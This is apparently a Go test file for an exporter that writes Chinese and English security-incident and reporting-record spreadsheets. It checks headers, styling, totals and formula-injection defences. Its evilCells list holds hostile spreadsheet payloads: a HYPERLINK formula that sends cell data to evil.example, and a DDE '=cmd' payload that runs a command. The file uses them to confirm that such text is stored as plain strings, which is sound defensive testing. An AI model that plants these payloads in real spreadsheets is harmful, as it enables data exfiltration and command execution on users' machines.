package export

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"fenghuo/internal/fenghuo"
)

var evilCells = []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1", hostile}

func incidentRows() []IncidentRow {
	at := time.Date(2025, 11, 3, 0, 40, 0, 0, time.UTC) // 08:40 in Beijing
	rows := []IncidentRow{{
		ID: 42, Unit: "乌审旗第一中学", Title: "门户网站首页被篡改", CategoryCode: "NA09", CategoryName: "网页篡改事件",
		Grade: fenghuo.GradeII, Status: fenghuo.StatusResponding, OccurredAt: at.Add(-35 * time.Minute), DiscoveredAt: at,
		ReportedAt: at.Add(30 * time.Minute), Overdue: 1, Late: 2,
	}}
	for i, v := range evilCells {
		rows = append(rows, IncidentRow{ID: int64(100 + i), Unit: v, Title: v, CategoryName: v, Grade: fenghuo.GradeIV, Status: fenghuo.StatusReported})
	}
	return rows
}

func openXLSX(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestIncidentsXLSX(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteIncidentsXLSX(&buf, incidentRows(), "zh-CN"); err != nil {
		t.Fatal(err)
	}
	keepArtifact(t, "incidents.xlsx", buf.Bytes())
	f := openXLSX(t, buf.Bytes())
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "事件" {
		t.Fatalf("sheets = %v", got)
	}
	rows, err := f.GetRows("事件")
	if err != nil {
		t.Fatal(err)
	}
	wantHeader := "编号|事发单位|事件名称|事件类别|事件级别|状态|发生时间|发现时间|报告时间|超期未报|迟报"
	if got := strings.Join(rows[0], "|"); got != wantHeader {
		t.Errorf("header = %s", got)
	}
	wantRow := "42|乌审旗第一中学|门户网站首页被篡改|NA09 网页篡改事件|重大（Ⅱ级）|处置中|2025-11-03 08:05|2025-11-03 08:40|2025-11-03 09:10|1|2"
	if got := strings.Join(rows[1], "|"); got != wantRow {
		t.Errorf("row = %s\nwant  %s", got, wantRow)
	}
	panes, err := f.GetPanes("事件")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("header not frozen: %+v %v", panes, err)
	}
	header, _ := f.GetCellStyle("事件", "C1")
	if st, _ := f.GetStyle(header); st == nil || st.Font == nil || !st.Font.Bold {
		t.Error("header is not bold")
	}
	grade, _ := f.GetCellStyle("事件", "E2")
	if st, _ := f.GetStyle(grade); st == nil || len(st.Fill.Color) == 0 || st.Fill.Color[0] != "FF9900" {
		t.Errorf("grade II is not orange: %+v", st)
	}
	if w, _ := f.GetColWidth("事件", "C"); w < 30 {
		t.Errorf("title column width %v", w)
	}
	if v, _ := f.GetCellValue("事件", "I3"); v != "" {
		t.Errorf("a zero time is written as %q", v)
	}
}

func TestIncidentsXLSXEnglish(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteIncidentsXLSX(&buf, incidentRows()[:1], "en"); err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, buf.Bytes())
	rows, _ := f.GetRows("incidents")
	if got := strings.Join(rows[1][4:6], "|"); got != "major (II)|responding" || rows[0][1] != "Unit" {
		t.Errorf("English row = %v / %v", rows[0], rows[1])
	}
}

// TestXLSXFormulaInjection: text that looks like a formula is stored as a
// string, byte for byte, and no cell holds a formula.
func TestXLSXFormulaInjection(t *testing.T) {
	var incidents, record bytes.Buffer
	if err := WriteIncidentsXLSX(&incidents, incidentRows(), "zh"); err != nil {
		t.Fatal(err)
	}
	var units []UnitRecord
	for _, v := range evilCells {
		units = append(units, UnitRecord{Unit: v, OnTime: 1})
	}
	if err := WriteReportingRecordXLSX(&record, units, "zh"); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"incidents": incidents.Bytes(), "record": record.Bytes()} {
		zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		for _, zf := range zr.File {
			if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
				continue
			}
			rc, _ := zf.Open()
			body, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(body, []byte("<f>")) || bytes.Contains(body, []byte("<f ")) {
				t.Errorf("%s: %s holds a formula", name, zf.Name)
			}
		}
	}
	f := openXLSX(t, incidents.Bytes())
	for i, v := range evilCells {
		for _, col := range []string{"B", "C", "D"} {
			cell := col + string(rune('3'+i))
			if formula, _ := f.GetCellFormula("事件", cell); formula != "" {
				t.Errorf("%s has formula %q", cell, formula)
			}
			if typ, _ := f.GetCellType("事件", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
				t.Errorf("%s has type %v, want a string", cell, typ)
			}
			if got, _ := f.GetCellValue("事件", cell); got != v {
				t.Errorf("%s = %q, want %q", cell, got, v)
			}
		}
	}
	r := openXLSX(t, record.Bytes())
	if got, _ := r.GetCellValue("报告情况", "A2"); got != evilCells[0] {
		t.Errorf("record A2 = %q", got)
	}
}

func TestReportingRecordXLSX(t *testing.T) {
	var buf bytes.Buffer
	units := []UnitRecord{{Unit: "乌审旗第一中学", OnTime: 3, Late: 1}, {Unit: "乌审旗人民医院", Late: 1, Overdue: 1, Missed: 2}, {Unit: "无报告单位"}}
	if err := WriteReportingRecordXLSX(&buf, units, "zh"); err != nil {
		t.Fatal(err)
	}
	keepArtifact(t, "record.xlsx", buf.Bytes())
	f := openXLSX(t, buf.Bytes())
	rows, _ := f.GetRows("报告情况")
	want := []string{
		"单位|按时报告|迟报|超期未报|漏报|合计|按时率",
		"乌审旗第一中学|3|1|0|0|4|75.00%",
		"乌审旗人民医院|0|1|1|2|4|0.00%",
		"无报告单位|0|0|0|0|0",
		"合计|3|2|1|2|8|37.50%",
	}
	for i, w := range want {
		if i >= len(rows) || strings.Join(rows[i], "|") != w {
			t.Errorf("row %d = %v, want %s", i+1, rows[min(i, len(rows)-1)], w)
		}
	}
}

func TestXLSXEmpty(t *testing.T) {
	var a, b bytes.Buffer
	if err := WriteIncidentsXLSX(&a, nil, ""); err != nil {
		t.Fatal(err)
	}
	if err := WriteReportingRecordXLSX(&b, nil, "en"); err != nil {
		t.Fatal(err)
	}
	rows, _ := openXLSX(t, a.Bytes()).GetRows("事件")
	if len(rows) != 1 {
		t.Errorf("empty list has %d rows", len(rows))
	}
	rows, _ = openXLSX(t, b.Bytes()).GetRows("reporting record")
	if len(rows) != 2 || rows[1][0] != "Total" {
		t.Errorf("empty record = %v", rows)
	}
}
